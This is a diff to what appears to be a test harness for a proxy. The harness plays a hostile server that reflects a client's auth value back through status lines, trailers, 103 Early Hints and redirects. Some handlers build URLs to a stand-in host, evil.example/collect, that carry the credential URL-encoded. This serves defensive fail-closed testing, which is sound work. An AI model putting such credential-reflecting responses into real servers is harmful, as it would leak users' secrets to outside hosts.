@@ -20,8 +20,9 @@ man in the middle or a misconfigured gateway that reflects it would:
 - `echo-status-line`: a malformed status line that contains it.
 - `echo-bad-header`: a header line without a colon that is the header.
 - `echo-cut-headers`: headers that show it, then the connection closes before they end.
-- `echo-trailers`: a chunked answer with a trailer that shows it.
-- `echo-early-hints`: a `103 Early Hints` interim answer with a `Link` that shows it, then a normal answer.
+- `echo-trailers`: a chunked answer with a trailer that shows it (mitmproxy 12.3.1 cannot read
+  HTTP/1 trailers: its connection crashes, see test_fail_closed.py).
+- `echo-early-hints`: a `103 Early Hints` interim answer with a `Link` that shows it, then `echo-headers`.
 - `echo-redirect`: a `307` whose `Location` carries it URL-encoded.
 
 Acts that cost the proxy:
@@ -342,7 +343,7 @@ class _Handler(socketserver.BaseRequestHandler):
 
     def act_echo_early_hints(self, req: _Request) -> None:
         self.write(f"HTTP/1.1 103 Early Hints\r\nlink: <https://evil.example/{quote(req.auth, safe='')}>; rel=preload\r\nx-echo: {req.auth}\r\n\r\n".encode("latin-1"))
-        self.answer(req, "fine")
+        self.act_echo_headers(req)
 
     def act_echo_redirect(self, req: _Request) -> None:
         location = f"https://evil.example/collect?k={quote(req.auth, safe='')}"
